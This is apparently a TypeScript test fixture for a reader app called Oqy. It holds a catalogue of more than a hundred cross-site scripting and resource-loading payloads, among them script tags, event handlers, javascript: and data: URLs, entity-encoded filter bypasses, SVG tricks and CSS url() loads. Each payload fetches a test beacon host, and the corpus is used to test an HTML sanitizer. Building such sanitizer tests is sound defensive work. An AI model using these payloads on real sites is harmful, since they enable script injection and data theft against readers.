/**
 * Hostile article HTML: a corpus of script-execution (and beacon-loading) payloads written for
 * Oqy, to be placed in Qazaq24 article pages (test/hostile/pages.ts) and run through everything
 * that shows article HTML: the sanitizer and the extractor in jsdom
 * (test/unit/sanitize-corpus.test.ts), the popup, the in-page reader and the saved-article reader
 * in Chromium and Firefox (test/e2e/hostile.test.ts).
 *
 * Every payload calls the beacon if it ever runs or loads: a script sets `window.__oqyPwned`,
 * `document.title = 'PWNED'`, `localStorage.oqyPwned`, posts `oqy-pwned:<id>` to its parent and
 * fetches http://beacon.oqy.test/hit/<id>; a resource payload (a stylesheet, a frame, a poster,
 * a refresh) loads http://beacon.oqy.test/hit/<id> itself. The beacon host resolves to the test's
 * fixture server, which records every request and answers 204 (so a refresh or a form submission
 * to it does not navigate away).
 *
 * Payload image addresses are absolute: MISSING_IMAGE answers 404 (its `onerror` fires) and
 * OK_IMAGE a small PNG (its `onload` fires). Nothing here is relative, so the `<base href>`
 * payload changes no other payload's address.
 */

export const BEACON_HOST = 'beacon.oqy.test';
export const BEACON = `http://${BEACON_HOST}/hit/`;
/** An image address that answers 404 (not under /storage/). */
export const MISSING_IMAGE = 'http://qazaq24.com/hostile-missing/pixel.png';
/** Image addresses the fixture server answers with a PNG (anything under /storage/). */
export const OK_IMAGE = 'http://qazaq24.com/storage/images/2026/02/hostile-ok.jpg';
export const OK_IMAGE_2X = 'http://qazaq24.com/storage/images/2026/02/hostile-ok-2x.jpg';

export type Category =
  | 'script'
  | 'event-handler'
  | 'javascript-data-url'
  | 'encoding'
  | 'object-embed-frame'
  | 'navigation'
  | 'css'
  | 'media'
  | 'mutation-xss'
  | 'dom-clobbering'
  | 'markup-as-text';

/** Where in an article page a payload is put. */
export type Slot =
  /** Inside a body paragraph, after a benign sentence. */
  | 'body'
  /** Text appended to the title: og:title, <title> and the h1 (as text, escaped where needed). */
  | 'title-text'
  /** Markup inside the h1 that adds no text. */
  | 'title-markup'
  /** Markup inside the aggregator's lead line, adding no text. */
  | 'lead'
  /** Markup inside the views line (no text). */
  | 'views'
  /** Markup inside the archived line (no text). */
  | 'archived'
  /** The source line's link: `html` is the whole `<a>`. */
  | 'source-link'
  /** Attributes of a figure's image: `html` is attribute text added to the `<img>`. */
  | 'image-attributes'
  /** Inside a figure caption, after its text. */
  | 'caption';

export interface Payload {
  /** Unique, URL-safe: the beacon path is /hit/<id>. */
  id: string;
  category: Category;
  slot: Slot;
  /** The markup as it goes into the page (see Slot for what it is in each slot). */
  html: string;
  /**
   * What it needs to fire were it left in place as markup: nothing (it fires on its own when
   * shown), or a reader's action (a click, a hover, a submit); 'never' where no current browser
   * would run it (obsolete features, tricks against string filters): those are in the corpus for
   * string filters and older engines, and are checked by their absence from the output. For
   * markup written as text (the markup-as-text category) it is what the markup would do were it
   * ever parsed as HTML.
   */
  fires: 'auto' | 'interaction' | 'never';
  note: string;
}

/**
 * The script a payload runs: every flag the tests look for, then the beacon. Single quotes
 * only, no spaces, no `"`, `<`, `>` or `&`: it fits in a double-quoted or unquoted attribute, a
 * javascript: URL, a script element and a data: URL unchanged.
 */
export function js(id: string): string {
  return (
    `window.__oqyPwned='${id}';document.title='PWNED';` +
    `try{localStorage.setItem('oqyPwned','${id}')}catch(e){}` +
    `try{parent.postMessage('oqy-pwned:${id}','*')}catch(e){}` +
    `fetch('${BEACON}${id}?at='+encodeURIComponent(location.href)).catch(function(){})`
  );
}

/** The beacon alone, for slots whose text length matters (the lead and meta lines). */
export function jsShort(id: string): string {
  return `fetch('${BEACON}${id}')`;
}

export const beaconUrl = (id: string) => `${BEACON}${id}`;

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
/** Escapes text for a double-quoted attribute value or element text. */
export const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** "javascript:" spelled with one numeric character reference a letter. */
const entityJs = (hex: boolean) =>
  [...'javascript:'].map((c) => (hex ? `&#x${c.charCodeAt(0).toString(16).toUpperCase()};` : `&#${c.charCodeAt(0)};`)).join('');

type Spec = Omit<Payload, 'slot' | 'fires'> & { slot?: Slot; fires?: Payload['fires'] };

function build(specs: Spec[]): Payload[] {
  return specs.map((s) => ({ slot: 'body', fires: 'auto', ...s }));
}

const M = MISSING_IMAGE;
const O = OK_IMAGE;
const B = beaconUrl;
const S = js;

/** An SVG document that runs the payload when it is a document (not when it is an image). */
const svgDoc = (id: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${S(id)}"><script>${S(id)}</script></svg>`;
const htmlDoc = (id: string) => `<script>${S(id)}</script>`;

export const PAYLOADS: readonly Payload[] = build([
  // ---- script elements --------------------------------------------------------------------
  { id: 'script-plain', category: 'script', html: `<script>${S('script-plain')}</script>`, note: 'a plain inline script' },
  { id: 'script-upper', category: 'script', html: `<SCRIPT>${S('script-upper')}</SCRIPT>`, note: 'upper-case tag' },
  { id: 'script-mixed-case', category: 'script', html: `<ScRiPt type="text/javascript">${S('script-mixed-case')}</sCrIpT>`, note: 'mixed-case tag, type attribute' },
  { id: 'script-slash', category: 'script', html: `<script/oqy>${S('script-slash')}</script>`, note: 'a slash instead of a space after the tag name' },
  { id: 'script-src', category: 'script', html: `<script src="${B('script-src')}"></script>`, note: 'external script from the beacon' },
  { id: 'script-src-data', category: 'script', html: `<script src="data:text/javascript,${S('script-src-data')}"></script>`, note: 'script from a data: URL' },
  { id: 'script-module', category: 'script', html: `<script type="module">${S('script-module')}</script>`, note: 'module script' },
  { id: 'script-defer-async', category: 'script', html: `<script defer async>${S('script-defer-async')}</script>`, note: 'defer + async' },
  { id: 'script-for-event', category: 'script', html: `<script for="window" event="onload">${S('script-for-event')}</script>`, note: 'legacy for/event attributes' },
  {
    id: 'script-comment-split',
    category: 'script',
    html: `<scr<!-- oqy -->ipt>${S('script-comment-split')}</scr<!-- oqy -->ipt>`,
    fires: 'never',
    note: 'tag split by comments: a script only to a filter that deletes comments from the string',
  },
  {
    id: 'script-nested-tag',
    category: 'script',
    html: `<scr<script>ipt>${S('script-nested-tag')}</scr</script>ipt>`,
    fires: 'never',
    note: 'tag inside the tag: a script only to a filter that deletes <script> once from the string',
  },
  { id: 'script-svg', category: 'script', html: `<svg><script>${S('script-svg')}</script></svg>`, note: 'script in SVG' },
  { id: 'script-svg-cdata', category: 'script', html: `<svg><script><![CDATA[${S('script-svg-cdata')}]]></script></svg>`, note: 'script in SVG, in a CDATA section' },
  { id: 'script-svg-href', category: 'script', html: `<svg><script href="data:text/javascript,${S('script-svg-href')}"></script></svg>`, note: 'SVG script with href to a data: URL' },
  { id: 'script-svg-xlink', category: 'script', html: `<svg><script xlink:href="${B('script-svg-xlink')}"></script></svg>`, note: 'SVG script with xlink:href to the beacon' },
  { id: 'script-math', category: 'script', html: `<math><mtext><script>${S('script-math')}</script></mtext></math>`, note: 'script inside MathML mtext' },
  { id: 'script-template', category: 'script', html: `<template><script>${S('script-template')}</script></template>`, note: 'script in a template (inert unless cloned out)' },
  { id: 'script-noscript', category: 'script', html: `<noscript><script>${S('script-noscript')}</script></noscript>`, note: 'script in noscript' },

  // ---- event-handler attributes -----------------------------------------------------------
  { id: 'on-img-error', category: 'event-handler', html: `<img src="${M}" onerror="${S('on-img-error')}" alt="">`, note: 'img onerror' },
  { id: 'on-img-load', category: 'event-handler', html: `<img src="${O}" onload="${S('on-img-load')}" alt="">`, note: 'img onload on an image that loads' },
  { id: 'on-img-caps', category: 'event-handler', html: `<IMG SRC="${M}" ONERROR="${S('on-img-caps')}">`, note: 'upper-case tag and attribute' },
  { id: 'on-img-slashes', category: 'event-handler', html: `<img/src="${M}"/onerror="${S('on-img-slashes')}">`, note: 'slashes as attribute separators' },
  { id: 'on-img-newlines', category: 'event-handler', html: `<img\nsrc="${M}"\nonerror\n=\n"${S('on-img-newlines')}">`, note: 'newlines around the attribute and =' },
  { id: 'on-img-unquoted', category: 'event-handler', html: `<img src=${M} onerror=${S('on-img-unquoted')}>`, note: 'unquoted handler' },
  { id: 'on-image-tag', category: 'event-handler', html: `<image src="${M}" onerror="${S('on-image-tag')}">`, note: '<image> is parsed as <img>' },
  { id: 'on-svg-load', category: 'event-handler', html: `<svg onload="${S('on-svg-load')}"></svg>`, note: 'svg onload' },
  { id: 'on-svg-image-error', category: 'event-handler', html: `<svg><image href="${M}" onerror="${S('on-svg-image-error')}"></image></svg>`, note: 'SVG image onerror' },
  {
    id: 'on-svg-animate-begin',
    category: 'event-handler',
    html: `<svg><animate onbegin="${S('on-svg-animate-begin')}" attributeName="x" dur="1s"></animate></svg>`,
    note: 'SVG animate onbegin',
  },
  { id: 'on-svg-set-begin', category: 'event-handler', html: `<svg><set onbegin="${S('on-svg-set-begin')}" attributeName="x" to="1"></set></svg>`, note: 'SVG set onbegin' },
  {
    id: 'on-svg-animate-end',
    category: 'event-handler',
    html: `<svg><rect width="5" height="5"><animate onend="${S('on-svg-animate-end')}" attributeName="width" from="5" to="6" dur="0.05s"></animate></rect></svg>`,
    note: 'SVG animate onend',
  },
  { id: 'on-details-toggle', category: 'event-handler', html: `<details open ontoggle="${S('on-details-toggle')}"><summary>Толығырақ</summary>Қосымша мәлімет</details>`, note: 'details open ontoggle' },
  { id: 'on-input-autofocus', category: 'event-handler', html: `<input autofocus onfocus="${S('on-input-autofocus')}">`, note: 'input autofocus onfocus' },
  {
    id: 'on-div-tabindex-autofocus',
    category: 'event-handler',
    html: `<div tabindex="0" autofocus onfocus="${S('on-div-tabindex-autofocus')}" onfocusin="${S('on-div-tabindex-autofocus')}">Фокус алатын блок</div>`,
    note: 'autofocus on any focusable element, onfocus and onfocusin',
  },
  {
    id: 'on-select-autofocus',
    category: 'event-handler',
    html: `<select autofocus onfocus="${S('on-select-autofocus')}"><option>бір</option></select>`,
    note: 'select autofocus onfocus',
  },
  {
    id: 'on-animation-start',
    category: 'event-handler',
    html: `<style>@keyframes oqyspin{from{opacity:.9}to{opacity:1}}</style><span style="animation:oqyspin 20ms" onanimationstart="${S('on-animation-start')}">анимация</span>`,
    note: 'CSS animation onanimationstart',
  },
  {
    id: 'on-animation-end',
    category: 'event-handler',
    html: `<style>@keyframes oqyfade{from{opacity:.8}to{opacity:1}}</style><span style="animation:oqyfade 20ms" onanimationend="${S('on-animation-end')}">анимация</span>`,
    note: 'CSS animation onanimationend',
  },
  {
    id: 'on-webkit-animation',
    category: 'event-handler',
    html: `<style>@keyframes oqywk{from{opacity:.7}to{opacity:1}}</style><span style="animation:oqywk 20ms" onwebkitanimationstart="${S('on-webkit-animation')}">анимация</span>`,
    note: 'prefixed animation event',
  },
  {
    id: 'on-content-visibility',
    category: 'event-handler',
    html: `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${S('on-content-visibility')}">Көрінетін блок</div>`,
    note: 'content-visibility state change',
  },
  { id: 'on-marquee-start', category: 'event-handler', html: `<marquee loop="1" onstart="${S('on-marquee-start')}">жүгіртпе жол</marquee>`, note: 'marquee onstart' },
  { id: 'on-video-error', category: 'event-handler', html: `<video src="${M}" onerror="${S('on-video-error')}"></video>`, note: 'video onerror' },
  { id: 'on-audio-error', category: 'event-handler', html: `<audio src="${M}" onerror="${S('on-audio-error')}"></audio>`, note: 'audio onerror' },
  { id: 'on-source-error', category: 'event-handler', html: `<video><source src="${M}" onerror="${S('on-source-error')}"></video>`, note: 'source onerror' },
  { id: 'on-video-loadstart', category: 'event-handler', html: `<video src="${M}" onloadstart="${S('on-video-loadstart')}"></video>`, note: 'video onloadstart' },
  { id: 'on-iframe-load', category: 'event-handler', html: `<iframe onload="${S('on-iframe-load')}"></iframe>`, note: 'iframe onload (about:blank)' },
  { id: 'on-style-load', category: 'event-handler', html: `<style onload="${S('on-style-load')}">.oqy-none{}</style>`, note: 'style onload' },
  { id: 'on-link-error', category: 'event-handler', html: `<link rel="stylesheet" href="${M}" onerror="${S('on-link-error')}">`, note: 'link stylesheet onerror' },
  { id: 'on-object-error', category: 'event-handler', html: `<object data="${M}" onerror="${S('on-object-error')}"></object>`, note: 'object onerror' },
  { id: 'on-input-image-error', category: 'event-handler', html: `<input type="image" src="${M}" onerror="${S('on-input-image-error')}">`, note: 'input type=image onerror' },
  { id: 'on-body-load', category: 'event-handler', html: `<body onload="${S('on-body-load')}" onpageshow="${S('on-body-load')}">`, note: 'a second body tag: its attributes go to the page body' },
  { id: 'on-img-in-link', category: 'event-handler', html: `<a href="https://example.kz/"><img src="${M}" onerror="${S('on-img-in-link')}" alt="сурет"></a>`, note: 'img onerror inside a link' },
  {
    id: 'on-pointer-hover',
    category: 'event-handler',
    html: `<span onpointerenter="${S('on-pointer-hover')}" onmouseover="${S('on-pointer-hover')}" onmousemove="${S('on-pointer-hover')}">меңзер астындағы мәтін</span>`,
    fires: 'interaction',
    note: 'pointer/mouse over (the tests move the mouse over the body)',
  },
  { id: 'on-click-link', category: 'event-handler', html: `<a href="https://example.kz/" onclick="${S('on-click-link')}">басу</a>`, fires: 'interaction', note: 'onclick on a link' },
  { id: 'on-custom-element', category: 'event-handler', html: `<oqy-card onclick="${S('on-custom-element')}" onmouseenter="${S('on-custom-element')}">карточка</oqy-card>`, fires: 'interaction', note: 'handler on an unknown element' },
  {
    id: 'on-form-submit',
    category: 'event-handler',
    html: `<form onsubmit="${S('on-form-submit')}"><input type="submit" value="Жіберу"></form>`,
    fires: 'interaction',
    note: 'form onsubmit',
  },
  {
    id: 'on-entity-handler',
    category: 'encoding',
    html: `<img src="${M}" onerror="&#119;&#x69;ndow${S('on-entity-handler').slice('window'.length)}">`,
    note: 'character references inside the handler (decoded before it runs)',
  },
  {
    id: 'on-svg-a-animate',
    category: 'event-handler',
    html: `<svg width="60" height="20"><a><animate attributeName="href" values="javascript:${S('on-svg-a-animate')}"></animate><text x="2" y="15">svg сілтеме</text></a></svg>`,
    fires: 'interaction',
    note: 'SVG link whose href an animation sets to javascript:',
  },

  // ---- javascript: and data: URLs ---------------------------------------------------------
  { id: 'url-a-js', category: 'javascript-data-url', html: `<a href="javascript:${S('url-a-js')}">сілтеме</a>`, fires: 'interaction', note: 'javascript: link' },
  { id: 'url-a-js-case', category: 'javascript-data-url', html: `<a href="JaVaScRiPt:${S('url-a-js-case')}">сілтеме</a>`, fires: 'interaction', note: 'mixed-case scheme' },
  { id: 'url-a-js-spaces', category: 'javascript-data-url', html: `<a href="   javascript:${S('url-a-js-spaces')}">сілтеме</a>`, fires: 'interaction', note: 'leading spaces' },
  {
    id: 'url-a-js-self',
    category: 'javascript-data-url',
    html: `<a href="javascript:${S('url-a-js-self')}" target="_self" rel="opener">сілтеме</a>`,
    fires: 'interaction',
    note: 'javascript: link with target=_self and rel=opener',
  },
  { id: 'url-a-data-html', category: 'javascript-data-url', html: `<a href="data:text/html,${htmlDoc('url-a-data-html')}">сілтеме</a>`, fires: 'interaction', note: 'data:text/html link' },
  {
    id: 'url-a-data-base64',
    category: 'javascript-data-url',
    html: `<a href="data:text/html;base64,${b64(htmlDoc('url-a-data-base64'))}">сілтеме</a>`,
    fires: 'interaction',
    note: 'base64 data: link',
  },
  { id: 'url-a-vbscript', category: 'javascript-data-url', html: `<a href="vbscript:${S('url-a-vbscript')}">сілтеме</a>`, fires: 'never', note: 'vbscript: (IE)' },
  { id: 'url-iframe-js', category: 'javascript-data-url', html: `<iframe src="javascript:${S('url-iframe-js')}"></iframe>`, note: 'iframe src javascript:' },
  { id: 'url-iframe-data', category: 'javascript-data-url', html: `<iframe src="data:text/html,${htmlDoc('url-iframe-data')}"></iframe>`, note: 'iframe src data:text/html' },
  {
    id: 'url-iframe-data-base64',
    category: 'javascript-data-url',
    html: `<iframe src="data:text/html;base64,${b64(htmlDoc('url-iframe-data-base64'))}"></iframe>`,
    note: 'iframe src base64 data:',
  },
  { id: 'url-iframe-srcdoc', category: 'javascript-data-url', html: `<iframe srcdoc="<script>${S('url-iframe-srcdoc')}</script>"></iframe>`, note: 'iframe srcdoc with a script' },
  {
    id: 'url-iframe-srcdoc-escaped',
    category: 'javascript-data-url',
    html: `<iframe srcdoc="&lt;img src=&quot;${M}&quot; onerror=&quot;${S('url-iframe-srcdoc-escaped')}&quot;&gt;"></iframe>`,
    note: 'iframe srcdoc written with character references',
  },
  { id: 'url-object-js', category: 'javascript-data-url', html: `<object data="javascript:${S('url-object-js')}"></object>`, note: 'object data javascript:' },
  {
    id: 'url-object-data',
    category: 'javascript-data-url',
    html: `<object type="text/html" data="data:text/html;base64,${b64(htmlDoc('url-object-data'))}"></object>`,
    note: 'object data data:text/html',
  },
  {
    id: 'url-embed-svg',
    category: 'javascript-data-url',
    html: `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${b64(svgDoc('url-embed-svg'))}">`,
    note: 'embed of an SVG document with onload',
  },
  { id: 'url-embed-js', category: 'javascript-data-url', html: `<embed src="javascript:${S('url-embed-js')}">`, note: 'embed src javascript:' },
  {
    id: 'url-form-action',
    category: 'javascript-data-url',
    html: `<form action="javascript:${S('url-form-action')}"><input type="submit" value="Жіберу"></form>`,
    fires: 'interaction',
    note: 'form action javascript:',
  },
  {
    id: 'url-button-formaction',
    category: 'javascript-data-url',
    html: `<form><button formaction="javascript:${S('url-button-formaction')}">Жіберу</button></form>`,
    fires: 'interaction',
    note: 'button formaction javascript:',
  },
  {
    id: 'url-input-formaction',
    category: 'javascript-data-url',
    html: `<form><input type="image" src="${O}" alt="жіберу" formaction="javascript:${S('url-input-formaction')}"></form>`,
    fires: 'interaction',
    note: 'input type=image formaction javascript:',
  },
  {
    id: 'url-svg-a-xlink',
    category: 'javascript-data-url',
    html: `<svg width="80" height="20"><a xlink:href="javascript:${S('url-svg-a-xlink')}"><text x="2" y="15">svg сілтеме</text></a></svg>`,
    fires: 'interaction',
    note: 'SVG link with xlink:href',
  },
  {
    id: 'url-svg-a-href',
    category: 'javascript-data-url',
    html: `<svg width="80" height="20"><a href="javascript:${S('url-svg-a-href')}"><text x="2" y="15">svg сілтеме</text></a></svg>`,
    fires: 'interaction',
    note: 'SVG link with href',
  },
  { id: 'url-math-href', category: 'javascript-data-url', html: `<math href="javascript:${S('url-math-href')}"><mi>x</mi></math>`, fires: 'interaction', note: 'MathML href' },
  {
    id: 'url-area',
    category: 'javascript-data-url',
    html: `<map name="oqymap"><area shape="rect" coords="0,0,10,10" href="javascript:${S('url-area')}" alt="аймақ"></map>`,
    fires: 'interaction',
    note: 'area href',
  },
  { id: 'url-video-poster-js', category: 'javascript-data-url', html: `<video poster="javascript:${S('url-video-poster-js')}"></video>`, fires: 'never', note: 'poster javascript:' },
  {
    id: 'url-table-background-js',
    category: 'javascript-data-url',
    html: `<table background="javascript:${S('url-table-background-js')}"><tbody><tr><td>кесте ұяшығы</td></tr></tbody></table>`,
    fires: 'never',
    note: 'table background javascript:',
  },
  { id: 'url-img-src-js', category: 'javascript-data-url', html: `<img src="javascript:${S('url-img-src-js')}" alt="">`, fires: 'never', note: 'img src javascript:' },
  {
    id: 'url-img-src-svg-data',
    category: 'javascript-data-url',
    html: `<img src="data:image/svg+xml;base64,${b64(svgDoc('url-img-src-svg-data'))}" alt="">`,
    fires: 'never',
    note: 'img of an SVG data: URL with a script (never runs as an image)',
  },
  { id: 'url-blockquote-cite', category: 'javascript-data-url', html: `<blockquote cite="javascript:${S('url-blockquote-cite')}">Дәйексөз мәтіні.</blockquote>`, fires: 'never', note: 'cite javascript:' },
  { id: 'url-href-on-p', category: 'javascript-data-url', html: `<span href="javascript:${S('url-href-on-p')}" src="data:text/html,x">мәтін</span>`, fires: 'never', note: 'URL attributes on elements that do not take them' },
  {
    id: 'url-a-xlink-html',
    category: 'javascript-data-url',
    html: `<a href="https://example.kz/" xlink:href="javascript:${S('url-a-xlink-html')}">сілтеме</a>`,
    fires: 'never',
    note: 'xlink:href on an HTML link',
  },

  // ---- entities and encodings -------------------------------------------------------------
  { id: 'enc-decimal', category: 'encoding', html: `<a href="${entityJs(false)}${S('enc-decimal')}">сілтеме</a>`, fires: 'interaction', note: 'javascript: as decimal references' },
  { id: 'enc-hex', category: 'encoding', html: `<a href="${entityJs(true)}${S('enc-hex')}">сілтеме</a>`, fires: 'interaction', note: 'javascript: as hex references' },
  { id: 'enc-first-letter', category: 'encoding', html: `<a href="&#106;avascript:${S('enc-first-letter')}">сілтеме</a>`, fires: 'interaction', note: '&#106;avascript:' },
  { id: 'enc-padded', category: 'encoding', html: `<a href="&#0000106;avascript:${S('enc-padded')}">сілтеме</a>`, fires: 'interaction', note: 'zero-padded reference' },
  { id: 'enc-no-semicolon', category: 'encoding', html: `<a href="&#106avascript:${S('enc-no-semicolon')}">сілтеме</a>`, fires: 'interaction', note: 'reference without ;' },
  { id: 'enc-tab', category: 'encoding', html: `<a href="java\tscript:${S('enc-tab')}">сілтеме</a>`, fires: 'interaction', note: 'a tab inside the scheme' },
  { id: 'enc-newline', category: 'encoding', html: `<a href="java\nscript:${S('enc-newline')}">сілтеме</a>`, fires: 'interaction', note: 'a newline inside the scheme' },
  { id: 'enc-tab-entity', category: 'encoding', html: `<a href="java&#9;script:${S('enc-tab-entity')}">сілтеме</a>`, fires: 'interaction', note: '&#9; inside the scheme' },
  { id: 'enc-newline-entity', category: 'encoding', html: `<a href="java&NewLine;script:${S('enc-newline-entity')}">сілтеме</a>`, fires: 'interaction', note: '&NewLine; inside the scheme' },
  { id: 'enc-colon-entity', category: 'encoding', html: `<a href="javascript&colon;${S('enc-colon-entity')}">сілтеме</a>`, fires: 'interaction', note: '&colon;' },
  { id: 'enc-control-prefix', category: 'encoding', html: `<a href="&#1;&#32;javascript:${S('enc-control-prefix')}">сілтеме</a>`, fires: 'interaction', note: 'leading control character and space' },
  { id: 'enc-upper-entities', category: 'encoding', html: `<a href="&#74;&#65;&#86;&#65;script:${S('enc-upper-entities')}">сілтеме</a>`, fires: 'interaction', note: 'JAVAscript: from references' },
  {
    id: 'enc-percent-body',
    category: 'encoding',
    html: `<a href="javascript:%77${S('enc-percent-body').slice(1)}">сілтеме</a>`,
    fires: 'interaction',
    note: 'percent-encoding inside the script (decoded before it runs)',
  },
  { id: 'enc-iframe-tab', category: 'encoding', html: `<iframe src="java&#x09;script:${S('enc-iframe-tab')}"></iframe>`, note: 'iframe src java&#x09;script:' },
  {
    id: 'enc-data-case',
    category: 'encoding',
    html: `<iframe src="DaTa:text/html;base64,${b64(htmlDoc('enc-data-case'))}"></iframe>`,
    note: 'mixed-case data: scheme',
  },

  // ---- object, embed, frames --------------------------------------------------------------
  { id: 'obj-object-remote', category: 'object-embed-frame', html: `<object data="${B('obj-object-remote')}" type="text/html"></object>`, note: 'object of a remote page' },
  { id: 'obj-embed-remote', category: 'object-embed-frame', html: `<embed src="${B('obj-embed-remote')}" type="text/html">`, note: 'embed of a remote page' },
  {
    id: 'obj-object-params',
    category: 'object-embed-frame',
    html: `<object><param name="src" value="javascript:${S('obj-object-params')}"><param name="movie" value="${B('obj-object-params')}"></object>`,
    fires: 'never',
    note: 'object params (plug-ins)',
  },
  {
    id: 'obj-object-svg',
    category: 'object-embed-frame',
    html: `<object type="image/svg+xml" data="data:image/svg+xml;base64,${b64(svgDoc('obj-object-svg'))}"></object>`,
    note: 'object of an SVG document with onload',
  },
  { id: 'obj-applet', category: 'object-embed-frame', html: `<applet code="Oqy.class" codebase="${B('obj-applet')}"></applet>`, fires: 'never', note: 'applet (obsolete)' },
  { id: 'obj-iframe-remote', category: 'object-embed-frame', html: `<iframe src="${B('obj-iframe-remote')}"></iframe>`, note: 'iframe of a remote page' },
  { id: 'obj-portal', category: 'object-embed-frame', html: `<portal src="${B('obj-portal')}"></portal>`, fires: 'never', note: 'portal (experimental)' },

  // ---- navigation: refresh, base, forms, pings, link hints ---------------------------------
  { id: 'nav-meta-refresh', category: 'navigation', html: `<meta http-equiv="refresh" content="0;url=${B('nav-meta-refresh')}">`, note: 'meta refresh to the beacon' },
  {
    id: 'nav-meta-refresh-case',
    category: 'navigation',
    html: `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${B('nav-meta-refresh-case')}'">`,
    note: 'meta refresh, upper case, quoted URL',
  },
  { id: 'nav-meta-refresh-js', category: 'navigation', html: `<meta http-equiv="refresh" content="0;url=javascript:${S('nav-meta-refresh-js')}">`, fires: 'never', note: 'meta refresh to javascript:' },
  {
    id: 'nav-meta-refresh-data',
    category: 'navigation',
    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(htmlDoc('nav-meta-refresh-data'))}">`,
    fires: 'never',
    note: 'meta refresh to data: (blocked for top-level navigation)',
  },
  {
    id: 'nav-base-href',
    category: 'navigation',
    html: `<base href="${B('nav-base-href')}/">`,
    note: 'base href to the beacon (pages holding it have no relative addresses in their body)',
  },
  { id: 'nav-base-js', category: 'navigation', html: `<base href="javascript:${S('nav-base-js')}//">`, fires: 'never', note: 'base href javascript:' },
  {
    id: 'nav-form-autosubmit',
    category: 'navigation',
    html: `<form action="${B('nav-form-autosubmit')}" method="get"><input name="q" value="1" autofocus onfocus="this.form.submit()"></form>`,
    note: 'form to the beacon, submitted when its field takes focus',
  },
  {
    id: 'nav-form-button',
    category: 'navigation',
    html: `<form action="${B('nav-form-button')}"><button type="submit">Жіберу</button></form>`,
    fires: 'interaction',
    note: 'form to the beacon with a submit button',
  },
  {
    id: 'nav-button-form-attr',
    category: 'navigation',
    html: `<button form="oqyform" formaction="${B('nav-button-form-attr')}">Жіберу</button><form id="oqyform"></form>`,
    fires: 'interaction',
    note: 'button outside its form (form= attribute) with formaction',
  },
  { id: 'nav-a-ping', category: 'navigation', html: `<a href="https://example.kz/" ping="${B('nav-a-ping')}">сілтеме</a>`, fires: 'interaction', note: 'ping on a link' },
  { id: 'nav-link-prefetch', category: 'navigation', html: `<link rel="prefetch" href="${B('nav-link-prefetch')}">`, note: 'link prefetch' },
  { id: 'nav-link-preload', category: 'navigation', html: `<link rel="preload" as="image" href="${B('nav-link-preload')}">`, note: 'link preload' },
  { id: 'nav-link-icon', category: 'navigation', html: `<link rel="icon" href="${B('nav-link-icon')}">`, note: 'link icon' },
  { id: 'nav-link-modulepreload', category: 'navigation', html: `<link rel="modulepreload" href="${B('nav-link-modulepreload')}">`, note: 'link modulepreload' },
  { id: 'nav-isindex', category: 'navigation', html: `<isindex action="javascript:${S('nav-isindex')}">`, fires: 'never', note: 'isindex (obsolete)' },

  // ---- CSS that loads addresses -----------------------------------------------------------
  { id: 'css-style-background', category: 'css', html: `<span style="background:url(${B('css-style-background')})">фон</span>`, note: 'style background url()' },
  { id: 'css-style-background-image', category: 'css', html: `<span style="background-image:url('${B('css-style-background-image')}')">фон</span>`, note: 'quoted url()' },
  { id: 'css-style-list-image', category: 'css', html: `<ul style="list-style-image:url(${B('css-style-list-image')})"><li>тізім</li></ul>`, note: 'list-style-image' },
  {
    id: 'css-style-border-image',
    category: 'css',
    html: `<div style="border:5px solid;border-image:url(${B('css-style-border-image')}) 30 round">жиек</div>`,
    note: 'border-image',
  },
  { id: 'css-style-content', category: 'css', html: `<div style="content:url(${B('css-style-content')})">мазмұн</div>`, note: 'content: url() on an element' },
  {
    id: 'css-style-mask',
    category: 'css',
    html: `<div style="-webkit-mask-image:url(${B('css-style-mask')});mask-image:url(${B('css-style-mask')})">маска</div>`,
    note: 'mask-image',
  },
  { id: 'css-style-cursor', category: 'css', html: `<div style="cursor:url(${B('css-style-cursor')}),auto">меңзер</div>`, fires: 'interaction', note: 'cursor url()' },
  {
    id: 'css-style-image-set',
    category: 'css',
    html: `<div style="background-image:image-set(url(${B('css-style-image-set')}) 1x)">фон</div>`,
    note: 'image-set()',
  },
  { id: 'css-style-element-import', category: 'css', html: `<style>@import url("${B('css-style-element-import')}");</style>`, note: '<style>@import' },
  {
    id: 'css-style-element-rule',
    category: 'css',
    html: `<style>.oqy-bg{background:url(${B('css-style-element-rule')})}</style><div class="oqy-bg">фон</div>`,
    note: '<style> rule with url()',
  },
  {
    id: 'css-font-face',
    category: 'css',
    html: `<style>@font-face{font-family:oqyx;src:url(${B('css-font-face')})}.oqy-font{font-family:oqyx}</style><span class="oqy-font">қаріп</span>`,
    note: '@font-face from the beacon',
  },
  { id: 'css-link-stylesheet', category: 'css', html: `<link rel="stylesheet" href="${B('css-link-stylesheet')}">`, note: '<link rel=stylesheet>' },
  { id: 'css-svg-style-import', category: 'css', html: `<svg><style>@import url(${B('css-svg-style-import')});</style></svg>`, note: 'SVG style @import' },
  { id: 'css-style-js-url', category: 'css', html: `<div style="background:url(javascript:${S('css-style-js-url')})">фон</div>`, fires: 'never', note: 'url(javascript:)' },
  { id: 'css-style-expression', category: 'css', html: `<div style="width:expression(${S('css-style-expression')})">ені</div>`, fires: 'never', note: 'expression() (IE)' },
  { id: 'css-moz-binding', category: 'css', html: `<div style="-moz-binding:url(${B('css-moz-binding')}#x)">байланыс</div>`, fires: 'never', note: '-moz-binding (old Firefox)' },
  {
    id: 'css-td-background',
    category: 'css',
    html: `<table><tbody><tr><td background="${B('css-td-background')}">ұяшық</td></tr></tbody></table>`,
    note: 'legacy background attribute',
  },

  // ---- media and images that load addresses ------------------------------------------------
  {
    id: 'media-img-srcset',
    category: 'media',
    html: `<img src="${O}" srcset="${B('media-img-srcset')} 1x, ${OK_IMAGE_2X} 2x" alt="">`,
    note: 'srcset: the 1x candidate is the beacon (Oqy keeps the largest candidate only)',
  },
  { id: 'media-picture-source', category: 'media', html: `<picture><source srcset="${B('media-picture-source')}"><img src="${O}" alt=""></picture>`, note: 'picture source' },
  { id: 'media-video-poster', category: 'media', html: `<video poster="${B('media-video-poster')}"></video>`, note: 'video poster' },
  { id: 'media-video-src', category: 'media', html: `<video src="${B('media-video-src')}" preload="auto"></video>`, note: 'video src' },
